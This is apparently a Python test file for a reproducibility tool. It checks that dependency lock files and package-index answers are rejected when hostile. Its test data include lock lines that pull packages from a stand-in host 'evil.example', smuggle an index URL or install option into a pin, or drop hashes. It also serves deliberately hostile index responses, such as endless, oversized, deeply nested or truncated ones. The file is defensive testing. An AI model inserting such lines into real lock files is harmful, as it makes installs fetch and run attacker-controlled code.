"""Lock files and package index answers as untrusted input: a dependency lock installs pinned, hashed
distributions and nothing else; an image lock that cannot be read fails `check` and `plan --script`; the
index client behind `check --resolve` (PEP 691) gives up within a deadline and a size cap and checks the
shape of what it reads, against a real HTTP server on loopback started here."""

from __future__ import annotations

import http.server
import json
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import yaml
from test_check import failures, manifest, upstream  # noqa: F401  (the fixture)

from repro.images import deps
from repro.spec.manifest import load_manifest


def resealed(path: Path, *extra: str, index: str | None = None) -> None:
    """The target's dependency lock with ``extra`` lines after its pins, sealed again (a lock a hostile sender
    edited and sealed as `repro lock` does); ``index``: its ``# index:`` line says that URL."""
    m = load_manifest(path)
    lock = deps.deps_lock_path(m)
    lines = lock.read_text(encoding="utf-8").splitlines()[:-1]
    if index is not None:
        lines = [f"# index: {index}" if ln.startswith("# index: ") else ln for ln in lines]
    lock.write_text(deps.seal([*lines, *extra]), encoding="utf-8")


HASH = "    --hash=sha256:" + "3" * 64
LINES = [
    ("extra-index-url", ["--extra-index-url https://evil.example/simple"]),
    ("index-url-other", ["--index-url https://evil.example/simple"]),
    ("find-links", ["--find-links https://evil.example/"]),
    ("requirement-file", ["-r /etc/other.txt"]),
    ("constraint-file", ["-c other.txt"]),
    ("editable-git", ["-e git+https://evil.example/x.git#egg=x"]),
    ("file-url", ["file:///tmp/x.whl"]),
    ("http-url", ["http://evil.example/x-1.0-py3-none-any.whl"]),
    ("direct-http", ["x @ http://evil.example/x-1.0-py3-none-any.whl \\", HASH]),
    ("direct-file-elsewhere", ["x @ file:///home/u/x-1.0-py3-none-any.whl \\", HASH]),
    ("no-hash", ["six==1.15.0"]),
    ("range", ["six>=1.15.0 \\", HASH]),
    ("hash-md5", ["six==1.15.0 \\", "    --hash=md5:" + "3" * 32]),
    ("hash-alone", [HASH]),
    ("continued-into-nothing", ["six==1.15.0 \\", HASH + " \\"]),
    ("option-after-pin", ["six==1.15.0 \\", "    --global-option=--evil \\", HASH]),
    ("pin-with-marker-url", ["six==1.15.0; python_version > '3' --index-url http://evil.example \\", HASH]),
]


@pytest.mark.parametrize("case,extra", LINES, ids=[c[0] for c in LINES])
def test_a_lock_line_that_is_no_hashed_pin_fails_check(upstream: tuple[Path, str], tmp_path: Path,  # noqa: F811
                                                        case: str, extra: list[str]) -> None:
    mirror, commit = upstream
    path = manifest(tmp_path, commit)
    assert failures(path, mirror) == []
    resealed(path, *extra)
    got = failures(path, mirror)
    assert len(got) == 1 and got[0].startswith("test-check-t: deps: t.requirements.lock line "), got
    assert "is not a pinned distribution with its hashes" in got[0]


def test_a_lock_that_is_not_utf8_fails_check_clearly(upstream: tuple[Path, str], tmp_path: Path) -> None:  # noqa: F811
    mirror, commit = upstream
    path = manifest(tmp_path, commit)
    lock = deps.deps_lock_path(load_manifest(path))
    lock.write_bytes(lock.read_bytes().replace(b"pytorch-ignite", b"pytorch-\xffgnite"))
    at = lock.read_bytes().index(b"\xff")
    assert failures(path, mirror) == [f"test-check-t: deps: {lock}: not UTF-8 text (byte 0xff at offset {at}): "
                                      "run `repro lock test-check-t --deps-only` again"]


def test_an_http_index_in_a_lock_fails_unless_named_on_the_command_line(upstream: tuple[Path, str],  # noqa: F811
                                                                         tmp_path: Path) -> None:
    from repro.images.check import CheckOptions, check_target

    mirror, commit = upstream
    path = manifest(tmp_path, commit)
    m = load_manifest(path)
    resealed(path, index="http://mirror.example/simple")
    got = failures(path, mirror)
    assert got == ["test-check-t: deps: t.requirements.lock reads its index over plain http "
                   "(http://mirror.example/simple): anyone on the way can answer for it; give it with "
                   "--index-url to accept it"], got
    named = check_target(m, CheckOptions(git_mirrors=(("https://github.com/example/", f"{mirror}/"),),
                                         index_url="http://mirror.example/simple"))
    assert not [f for f in named.failures if f.check == "deps"], named.failures
    resealed(path, index="http://127.0.0.1:8080/simple")  # loopback: no one on the way
    assert failures(path, mirror) == []


def test_the_seed_locks_pass_the_line_check() -> None:
    from repro.spec.manifest import find_target, manifest_files

    checked = 0
    for f in manifest_files():
        m = find_target(f.stem)
        lock = deps.deps_lock_path(m)
        if lock.is_file():
            assert deps.line_problems(lock.read_text(encoding="utf-8"), lock.name) == [], lock
            checked += 1
    assert checked >= 10


# ------------------------------------------------------------------ the image lock
BROKEN_LOCKS = [("not-json", "{oops"), ("a-list", "[1]"), ("images-a-list", '{"lock_version": 1, "images": [1]}'),
                ("sources-a-string", '{"lock_version": 1, "images": {}, "sources": "x"}'),
                ("no-image", '{"lock_version": 1, "images": {}}')]


@pytest.mark.parametrize("case,text", BROKEN_LOCKS[:-1], ids=[c[0] for c in BROKEN_LOCKS[:-1]])
def test_a_broken_image_lock_fails_check(upstream: tuple[Path, str], tmp_path: Path, case: str,  # noqa: F811
                                         text: str) -> None:
    mirror, commit = upstream
    path = manifest(tmp_path, commit)
    (tmp_path / "t.lock.json").write_text(text)
    got = failures(path, mirror)
    assert len(got) == 1 and got[0].startswith(f"test-check-t: lock: {tmp_path / 't.lock.json'}"), got


@pytest.mark.parametrize("case,text", BROKEN_LOCKS, ids=[c[0] for c in BROKEN_LOCKS])
def test_a_broken_image_lock_fails_plan_script(tmp_path: Path, case: str, text: str) -> None:
    from test_hostile_input import run_cli

    good = Path(__file__).parent / "data" / "good"
    doc = yaml.safe_load((good / "minimal.yaml").read_text())
    assert doc["image"]["registry"]["digest"] == ""  # pinned by the lock
    path = tmp_path / "m.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    hosts = tmp_path / "hosts.yaml"
    hosts.write_text(SLURM_HOSTS)
    if case == "no-image":
        code, out, _ = run_cli(["plan", str(path), "--script", "--hosts", str(hosts)])
        assert code == 2 and "no lock pins its image" in out, out
    (tmp_path / "m.lock.json").write_text(text)
    code, out, _ = run_cli(["plan", str(path), "--script", "--hosts", str(hosts)])
    assert code == 2, out
    assert "m.lock.json" in out, out


SLURM_HOSTS = """schema_version: 1
defaults: {user: root, gpus: 8}
nodes:
  - {name: g1, address: 10.77.0.11}
scheduler: {kind: slurm, partition: debug, time: 15, container: docker}
"""


# ------------------------------------------------------------------ the package index (PEP 691) on loopback
PAGE = {"meta": {"api-version": "1.1"}, "name": "pytorch-ignite",
        "files": [{"filename": "pytorch_ignite-0.3.0-py2.py3-none-any.whl", "upload-time": "2020-01-21T10:00:00Z",
                   "url": "x", "hashes": {}}]}
ANSWERS: dict[str, Callable[[http.server.BaseHTTPRequestHandler], None]] = {}


def answer(name: str):
    def register(fn):
        ANSWERS[name] = fn
        return fn
    return register


def _head(h: http.server.BaseHTTPRequestHandler, length: int | None = None) -> None:
    h.send_response(200)
    h.send_header("Content-Type", "application/vnd.pypi.simple.v1+json")
    if length is not None:
        h.send_header("Content-Length", str(length))
    h.end_headers()


@answer("good")
def _good(h):
    body = json.dumps(PAGE).encode()
    _head(h, len(body))
    h.wfile.write(body)


@answer("drip")
def _drip(h):  # a byte every 0.2 s, for ever: each read has its byte in time
    _head(h, 1 << 30)
    h.wfile.write(b"{")
    while True:
        time.sleep(0.2)
        h.wfile.write(b" ")
        h.wfile.flush()


@answer("huge")
def _huge(h):  # 300 MB of a JSON string
    _head(h, 300 << 20)
    h.wfile.write(b'"')
    block = b"x" * (1 << 20)
    for _ in range(300):
        h.wfile.write(block)


def _body(data: bytes):
    def send(h):
        _head(h, len(data))
        h.wfile.write(data)
    return send


for _name, _data in {"not-json": b"{oops", "deep": b"[" * 100_000 + b"]" * 100_000, "a-list": b"[1]",
                     "files-a-string": b'{"files": "x"}', "file-a-number": b'{"files": [1]}',
                     "filename-a-number": b'{"files": [{"filename": 1}]}',
                     "upload-time-a-number": b'{"files": [{"filename": "a-1.whl", "upload-time": 5}]}',
                     "upload-time-garbage": b'{"files": [{"filename": "a-1.whl", "upload-time": "x"}]}',
                     "not-utf8": b'{"files": "\xff"}', "cut-short": b""}.items():
    ANSWERS[_name] = _body(_data)
ANSWERS["cut-short"] = lambda h: (_head(h, 1000), h.wfile.write(b'{"files": ['))


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802
        try:
            ANSWERS[self.path.split("/")[1]](self)
        except (BrokenPipeError, ConnectionResetError):
            pass

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def index() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def within(seconds: float, fn: Callable[[], list[str]]) -> list[str]:
    """What ``fn`` returns, asserted to return within ``seconds`` of wall time."""
    got: list[list[str]] = []
    t = threading.Thread(target=lambda: got.append(fn()), daemon=True)
    t.start()
    t.join(seconds)
    assert got, f"still reading after {seconds} s"
    return got[0]


@pytest.fixture()
def resolving(upstream: tuple[Path, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch):  # noqa: F811
    monkeypatch.setattr(deps, "INDEX_DEADLINE_S", 2.0, raising=False)
    m = load_manifest(manifest(tmp_path, upstream[1]))
    text = deps.deps_lock_path(m).read_text(encoding="utf-8")
    return lambda url: within(10, lambda: deps.upload_problems(m, text, url))


def test_a_good_index_answer_is_read(index: str, resolving) -> None:
    assert resolving(f"{index}/good") == []


@pytest.mark.parametrize("case,words", [
    ("drip", "no whole answer within 2 s"), ("huge", "an answer over 67108864 bytes"),
    ("not-json", "Expecting property name"), ("deep", "not a JSON document: RecursionError"),
    ("not-utf8", "not a JSON document: UnicodeDecodeError"), ("a-list", "not a PEP 691 project page"),
    ("files-a-string", "not a PEP 691 project page"), ("file-a-number", "a file entry without a file name"),
    ("filename-a-number", "a file entry without a file name"),
    ("upload-time-a-number", "upload-time '5' of a-1.whl is no ISO 8601 UTC time"),
    ("upload-time-garbage", "upload-time 'x' of a-1.whl is no ISO 8601 UTC time"),
    ("cut-short", "an answer cut short (989 of its bytes missing)"),
])
def test_a_hostile_index_answer_is_a_problem_in_bounded_time(index: str, resolving, case: str, words: str) -> None:
    t0 = time.monotonic()
    got = resolving(f"{index}/{case}")
    assert got == [f"pytorch-ignite: the index {index}/{case} cannot be read: {got[0].split(': ', 2)[2]}"], got
    assert words in got[0], got
    assert time.monotonic() - t0 < 6
